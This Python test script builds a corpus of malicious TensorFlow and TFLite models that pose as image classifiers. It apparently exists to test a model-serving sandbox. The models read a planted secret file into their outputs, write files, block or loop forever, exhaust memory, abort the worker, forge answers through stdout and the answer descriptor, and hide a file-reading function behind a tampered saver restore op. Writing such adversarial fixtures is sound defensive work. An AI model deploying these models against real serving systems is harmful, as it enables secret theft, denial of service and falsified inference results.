"""Builds the malicious-model corpus the sandbox tests run: GraphDefs that read a planted secret,
write a file, loop forever, allocate without bound, and use the ops of published model attacks;
a TFLite model with a custom operator (tests/tflite_fixtures.py); and models that go for the
service's capacity and answer channel: answer forgers (a graph, and a SavedModel that forges
while it loads), a SavedModel whose load blocks for ever, 400 allowlisted 2048² MatMuls, and a
graph that crashes its worker. Each graph looks like a
classifier (an image placeholder in, a [1, n] tensor out) so that only the checks and the
sandbox stand in the way.

    python tests/malicious_models.py OUT_DIR SECRET_FILE WRITE_TARGET
"""

from __future__ import annotations

import io
import struct
import sys
import tempfile
import zipfile
from pathlib import Path

import msgpack
import numpy as np
import tensorflow as tf
from helpers import zip_of
from tflite_fixtures import custom_op_model

tf1 = tf.compat.v1


def _image() -> tf.Tensor:
    return tf1.placeholder(tf.float32, [None, 224, 224, 3], name="input")


def _classifier_output(image: tf.Tensor, extra: tf.Tensor | None = None, deps=()) -> tf.Tensor:
    """A [1, 4] softmax over the image's mean (plus `extra`, flattened and summed in)."""
    logits = tf.reshape(tf.reduce_mean(image), [1, 1]) * tf.ones([1, 4])
    if extra is not None:
        logits = logits + tf.reshape(extra, [1, -1])[:, :4]
    with tf.control_dependencies(list(deps)):
        return tf.nn.softmax(logits, name="output")


def _graph(build) -> bytes:
    graph = tf.Graph()
    with graph.as_default():
        build()
    return graph.as_graph_def().SerializeToString()


def read_secret(secret: str) -> bytes:
    """Returns the secret file's bytes as the model's output values."""

    def build() -> None:
        image = _image()
        raw = tf.io.decode_raw(tf.io.read_file(secret), tf.uint8)
        values = tf.cast(raw, tf.float32)
        logits = tf.reshape(tf.reduce_mean(image), [1, 1]) * 0 + tf.reshape(values, [1, -1])
        tf.identity(logits, name="output")

    return _graph(build)


def write_file(target: str) -> bytes:
    def build() -> None:
        image = _image()
        written = tf.io.write_file(target, "written by a model")
        _classifier_output(image, deps=[written])

    return _graph(build)


def endless_loop() -> bytes:
    def build() -> None:
        image = _image()
        count = tf.while_loop(lambda i: i >= 0, lambda i: i + 1, [tf.constant(0)])
        _classifier_output(image, tf.cast(tf.reshape(count, [1, 1]), tf.float32) * tf.ones([1, 4]))

    return _graph(build)


def huge_fill() -> bytes:
    """Fill is an allowed op; its shape asks for 4 TB. The memory limit contains it."""

    def build() -> None:
        image = _image()
        huge = tf.fill(tf.constant([1_000_000, 1_000_000, 1], tf.int64), 1.0)
        _classifier_output(image, tf.reduce_sum(huge, axis=[0, 2])[:4])

    return _graph(build)


def dynamic_fill() -> bytes:
    """The same 4 TB, with a shape the graph only learns from the pixels: the static cost check
    cannot see it, and the memory limit must stop it."""

    def build() -> None:
        image = _image()
        side = tf.cast(tf.reduce_mean(image) * 0 + 1_000_000, tf.int64)
        huge = tf.fill(tf.stack([side, side, 1]), 1.0)
        _classifier_output(image, tf.reduce_sum(huge, axis=[0, 2])[:4])

    return _graph(build)


def immutable_const(secret: str) -> bytes:
    """ImmutableConst maps a local file into a tensor (a published model-attack primitive)."""

    def build() -> None:
        image = _image()
        mapped = tf.raw_ops.ImmutableConst(dtype=tf.uint8, shape=[8], memory_region_name=secret)
        _classifier_output(image, tf.cast(mapped, tf.float32))

    return _graph(build)


def matching_files() -> bytes:
    def build() -> None:
        image = _image()
        found = tf.io.matching_files("/*")
        _classifier_output(image, deps=[found])

    return _graph(build)


def print_v2(secret: str) -> bytes:
    def build() -> None:
        image = _image()
        printed = tf.raw_ops.PrintV2(input=tf.constant(secret), output_stream="stderr")
        _classifier_output(image, deps=[printed])

    return _graph(build)


def csv_dataset(secret: str) -> bytes:
    def build() -> None:
        image = _image()
        dataset = tf.raw_ops.CSVDataset(
            filenames=[secret],
            compression_type="",
            buffer_size=tf.constant(1024, tf.int64),
            header=False,
            field_delim=",",
            use_quote_delim=True,
            na_value="",
            select_cols=tf.constant([], tf.int64),
            record_defaults=[tf.constant([""])],
            output_shapes=[[]],
        )
        _classifier_output(image, deps=[dataset])

    return _graph(build)


def fixed_length_records(secret: str) -> bytes:
    def build() -> None:
        image = _image()
        dataset = tf.raw_ops.FixedLengthRecordDataset(
            filenames=[secret],
            header_bytes=tf.constant(0, tf.int64),
            record_bytes=tf.constant(1, tf.int64),
            footer_bytes=tf.constant(0, tf.int64),
            buffer_size=tf.constant(1, tf.int64),
        )
        _classifier_output(image, deps=[dataset])

    return _graph(build)


def debug_identity() -> bytes:
    def build() -> None:
        image = _image()
        watched = tf.raw_ops.DebugIdentity(input=image, debug_urls=["file:///tmp/tfdbg"])
        _classifier_output(watched)

    return _graph(build)


# --- models that go for the service's capacity and its answer channel -----------------------


def forged_answer() -> bytes:
    """A stream answer as a worker writes one, saying class 0 with certainty, for no frame."""
    body = msgpack.packb(
        {"probabilities": struct.pack("<4f", 1, 0, 0, 0), "rows": 1, "classes": 4},
        use_bin_type=True,
    )
    return struct.pack(">I", len(body)) + body


def _forgers() -> list[tf.Operation]:
    """Forged answers written to stdout (PrintV2, as in the attack reported on warm workers)
    and, an attacker who read our code, to the answer channel itself: the worker's command line
    names its descriptor (`--answer-fd N`), and /proc/self/fd/N opens it."""
    forged = forged_answer()
    printed = tf.raw_ops.PrintV2(
        input=tf.constant(forged.decode("latin-1")), output_stream="stdout", end=""
    )
    command_line = tf.io.read_file("/proc/self/cmdline")
    fd = tf.strings.regex_replace(command_line, r"(?s).*--answer-fd\x00(\d+)\x00.*", r"\1")
    written = tf.io.write_file(tf.strings.join(["/proc/self/fd/", fd]), tf.constant(forged))
    return [printed, written]


def forger() -> bytes:
    """Writes forged answers while it runs (PrintV2: refused by the allowlist when it is on)."""

    def build() -> None:
        _classifier_output(_image(), deps=_forgers())

    return _graph(build)


def costly_matmuls(count: int = 400, side: int = 2048) -> bytes:
    """`count` MatMuls of `side`² matrices, every op on the allowlist: about 7 TFLOPs."""

    def build() -> None:
        image = _image()
        square = tf.fill(tf.constant([side, side]), tf.reduce_mean(image))
        total = tf.add_n([tf.reduce_mean(tf.matmul(square, square)) for _ in range(count)])
        _classifier_output(image, tf.reshape(total, [1, 1]) * tf.ones([1, 4]))

    return _graph(build)


def blocking() -> bytes:
    """Blocks for ever while it runs, using no CPU: a dequeue from an empty queue."""

    def build() -> None:
        image = _image()
        _classifier_output(image, deps=[tf1.FIFOQueue(1, tf.float32).dequeue()])

    return _graph(build)


def aborting() -> bytes:
    """Kills its worker (SIGABRT) while it runs: a stand-in for a kernel that crashes."""

    def build() -> None:
        image = _image()
        _classifier_output(image, deps=[tf.raw_ops.Abort(error_msg="a crashing model")])

    return _graph(build)


def _savedmodel_zip(main_op) -> bytes:
    """A TF1-format SavedModel (a classifier-shaped serving_default) whose main_op, which
    TensorFlow runs while loading it, is built by `main_op`; packed as a .zip."""
    with tempfile.TemporaryDirectory() as folder:
        graph = tf.Graph()
        with graph.as_default():
            image = _image()
            output = _classifier_output(image)
            with tf1.Session(graph=graph) as session:
                builder = tf1.saved_model.Builder(str(Path(folder) / "model"))
                signature = tf1.saved_model.predict_signature_def(
                    {"input": image}, {"output": output}
                )
                builder.add_meta_graph_and_variables(
                    session,
                    ["serve"],
                    signature_def_map={"serving_default": signature},
                    main_op=main_op(),
                )
                builder.save()
        return _zip_folder(Path(folder) / "model")


def _zip_folder(folder: Path) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                archive.write(path, path.relative_to(folder))
    return packed.getvalue()


def forging_savedmodel() -> bytes:
    """Forged answers written while TensorFlow loads it, before any check sees its ops."""
    return _savedmodel_zip(lambda: tf.group(*_forgers()))


def blocking_savedmodel() -> bytes:
    """Its load blocks for ever, using no CPU: a dequeue from an empty queue."""
    return _savedmodel_zip(lambda: tf.group(tf1.FIFOQueue(1, tf.float32).dequeue()))


def reading_savedmodel_v1(secret: str) -> bytes:
    """TF1 format: its main_op, run while TensorFlow loads it, reads a file into a variable
    that the serving signature then returns."""
    with tempfile.TemporaryDirectory() as folder:
        graph = tf.Graph()
        with graph.as_default():
            image = _image()
            stolen = tf1.get_variable("stolen", initializer=tf.zeros([64]), use_resource=False)
            raw = tf.io.decode_raw(tf.io.read_file(secret), tf.uint8)[:64]
            fill = tf1.assign(stolen, tf.pad(tf.cast(raw, tf.float32), [[0, 64 - tf.size(raw)]]))
            output = tf.identity(tf.reshape(tf.reduce_mean(image) * 0 + stolen, [1, 64]), "output")
            with tf1.Session(graph=graph) as session:
                session.run(tf1.global_variables_initializer())
                builder = tf1.saved_model.Builder(str(Path(folder) / "model"))
                builder.add_meta_graph_and_variables(
                    session,
                    ["serve"],
                    signature_def_map={
                        "serving_default": tf1.saved_model.predict_signature_def(
                            {"input": image}, {"output": output}
                        )
                    },
                    main_op=tf.group(fill),
                )
                builder.save()
        return _zip_folder(Path(folder) / "model")


class _FileReader(tf.saved_model.experimental.TrackableResource):
    """A resource whose initializer, run while TensorFlow 2 loads the SavedModel, reads a file."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self._path = path

    def _create_resource(self):
        return tf.raw_ops.VarHandleOp(dtype=tf.string, shape=[], shared_name="stolen-file")

    def _initialize(self):
        tf.raw_ops.AssignVariableOp(
            resource=self.resource_handle, value=tf.io.read_file(self._path)
        )


def reading_savedmodel_v2(secret: str) -> bytes:
    """TF2 format: a resource initializer reads a file; the serving function returns its bytes."""
    module = tf.Module()
    module.reader = _FileReader(secret)

    @tf.function(input_signature=[tf.TensorSpec([None, 224, 224, 3], tf.float32)])
    def serve(image):
        content = tf.raw_ops.ReadVariableOp(resource=module.reader.resource_handle, dtype=tf.string)
        values = tf.cast(tf.io.decode_raw(content, tf.uint8)[:4], tf.float32)
        return {"output": tf.reshape(tf.reduce_mean(image) * 0 + values, [1, -1])}

    with tempfile.TemporaryDirectory() as folder:
        tf.saved_model.save(
            module, str(Path(folder) / "model"), signatures={"serving_default": serve}
        )
        return _zip_folder(Path(folder) / "model")


def _saved_model_pb(zipped: bytes) -> tuple[dict[str, bytes], str]:
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    (pb,) = [name for name in members if name.endswith("saved_model.pb")]
    return members, pb


def saver_def_bypass(secret: str) -> bytes:
    """TF2 format: the serving function reads and prints a file, and one extra graph node that
    calls it is named as the saver's restore op (the real one and its function removed), so
    that a checker skipping what the saver reaches skips the serving function too; TensorFlow
    2's loader ignores the saver."""
    from tensorflow.core.protobuf import saved_model_pb2

    module = tf.Module()

    @tf.function(input_signature=[tf.TensorSpec([None, 224, 224, 3], tf.float32)])
    def serve(image):
        content = tf.io.read_file(secret)
        tf.print(content)
        values = tf.cast(tf.io.decode_raw(content, tf.uint8)[:4], tf.float32)
        return {"output": tf.reshape(tf.reduce_mean(image) * 0 + values, [1, -1])}

    with tempfile.TemporaryDirectory() as folder:
        tf.saved_model.save(
            module, str(Path(folder) / "model"), signatures={"serving_default": serve}
        )
        members, pb = _saved_model_pb(_zip_folder(Path(folder) / "model"))
    parsed = saved_model_pb2.SavedModel.FromString(members[pb])
    meta = parsed.meta_graphs[0]
    graph = meta.graph_def
    (output,) = meta.signature_def["serving_default"].outputs.values()
    (call,) = [n for n in graph.node if n.name == output.name.split(":")[0]]
    restore = meta.saver_def.restore_op_name.split(":")[0]
    kept = [n for n in graph.node if n.name != restore]
    del graph.node[:]
    graph.node.extend(kept)
    functions = [f for f in graph.library.function if "_traced_restore" not in f.signature.name]
    del graph.library.function[:]
    graph.library.function.extend(functions)
    extra = graph.node.add()
    extra.CopyFrom(call)
    extra.name = "restore_all"
    meta.saver_def.restore_op_name = "restore_all"
    members[pb] = parsed.SerializeToString()
    return zip_of(members)


class _Remembering(tf.Module):
    """Returns the previous call's 16x16 thumbnail and keeps this one's: a variable written on
    every call, with allowlisted ops only."""

    def __init__(self) -> None:
        super().__init__()
        self.last = tf.Variable(tf.zeros([1, 768]))

    @tf.function(input_signature=[tf.TensorSpec([None, 224, 224, 3], tf.float32)])
    def serve(self, image):
        previous = self.last.read_value()
        thumbnail = tf.nn.avg_pool2d(image[:1], 14, 14, "VALID")  # [1, 16, 16, 3]
        self.last.assign(tf.reshape(thumbnail, [1, 768]))
        return {"output": tf.nn.softmax(previous[:, :4] + tf.reduce_mean(image) * 0)}


def stateful_savedmodel() -> bytes:
    module = _Remembering()
    with tempfile.TemporaryDirectory() as folder:
        tf.saved_model.save(
            module, str(Path(folder) / "model"), signatures={"serving_default": module.serve}
        )
        return _zip_folder(Path(folder) / "model")


def fused_conv() -> bytes:
    """A grappler-internal _FusedConv2D with a fused BiasAdd and no bias to add (1.3 KB)."""
    graph_def = tf1.GraphDef()
    for name, op in (("input", "Placeholder"), ("filter", "Const")):
        node = graph_def.node.add(name=name, op=op)
        node.attr["dtype"].type = tf.float32.as_datatype_enum
    graph_def.node[1].attr["value"].tensor.CopyFrom(
        tf.make_tensor_proto(np.ones([3, 3, 3, 4], np.float32))
    )
    fused = graph_def.node.add(name="output", op="_FusedConv2D", input=["input", "filter"])
    fused.attr["T"].type = tf.float32.as_datatype_enum
    fused.attr["num_args"].i = 0
    fused.attr["fused_ops"].list.s.extend([b"BiasAdd"])
    fused.attr["strides"].list.i.extend([1, 1, 1, 1])
    fused.attr["padding"].s = b"SAME"
    return graph_def.SerializeToString()


def function_named_like_an_op() -> bytes:
    """A library function named HardSwish (no TensorFlow op has that name) that calls itself."""
    graph_def = tf1.GraphDef()
    function = graph_def.library.function.add()
    function.signature.name = "HardSwish"
    arg = function.signature.input_arg.add(name="x")
    arg.type = tf.float32.as_datatype_enum
    result = function.signature.output_arg.add(name="y")
    result.type = tf.float32.as_datatype_enum
    function.node_def.add(name="again", op="HardSwish", input=["x"])
    function.ret["y"] = "again:y:0"
    image = graph_def.node.add(name="input", op="Placeholder")
    image.attr["dtype"].type = tf.float32.as_datatype_enum
    graph_def.node.add(name="output", op="HardSwish", input=["input"])
    return graph_def.SerializeToString()


def main(out: Path, secret: str, write_target: str) -> None:
    out.mkdir(parents=True, exist_ok=True)
    corpus = {
        "read_secret.pb": read_secret(secret),
        "write_file.pb": write_file(write_target),
        "endless_loop.pb": endless_loop(),
        "huge_fill.pb": huge_fill(),
        "dynamic_fill.pb": dynamic_fill(),
        "immutable_const.pb": immutable_const(secret),
        "matching_files.pb": matching_files(),
        "print_v2.pb": print_v2(secret),
        "csv_dataset.pb": csv_dataset(secret),
        "fixed_length_records.pb": fixed_length_records(secret),
        "debug_identity.pb": debug_identity(),
        "custom_op.tflite": custom_op_model("EvilCustomOp"),
        "forger.pb": forger(),
        "costly_matmuls.pb": costly_matmuls(),
        "aborting.pb": aborting(),
        "blocking.pb": blocking(),
        "forging_savedmodel.zip": forging_savedmodel(),
        "blocking_savedmodel.zip": blocking_savedmodel(),
        "reading_savedmodel_v1.zip": reading_savedmodel_v1(secret),
        "reading_savedmodel_v2.zip": reading_savedmodel_v2(secret),
        "saver_def_bypass.zip": saver_def_bypass(secret),
        "stateful_savedmodel.zip": stateful_savedmodel(),
        "fused_conv.pb": fused_conv(),
        "function_named_like_an_op.pb": function_named_like_an_op(),
    }
    for name, blob in corpus.items():
        (out / name).write_bytes(blob)


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2], sys.argv[3])
